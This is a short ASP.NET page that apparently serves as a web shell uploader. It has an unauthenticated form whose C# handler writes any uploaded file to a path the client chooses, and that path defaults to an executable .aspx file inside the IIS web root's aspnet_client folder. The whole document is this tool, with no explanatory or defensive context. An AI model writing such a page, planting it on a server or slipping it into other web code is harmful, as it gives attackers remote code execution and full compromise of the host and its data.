<%@ Page Language="C#" %>
<script runat="server">
protected void Up_Click(object sender, EventArgs e)
{
    string target = savePath.Value;
    fileIn.PostedFile.SaveAs(target);
    msg.InnerText = "saved " + target;
}
</script>
<form runat="server" enctype="multipart/form-data">
<input type="file" id="fileIn" runat="server" />
<input type="text" id="savePath" runat="server" value="C:\inetpub\wwwroot\aspnet_client\x.aspx" />
<asp:Button runat="server" Text="Up" OnClick="Up_Click" />
<span id="msg" runat="server"></span>
</form>
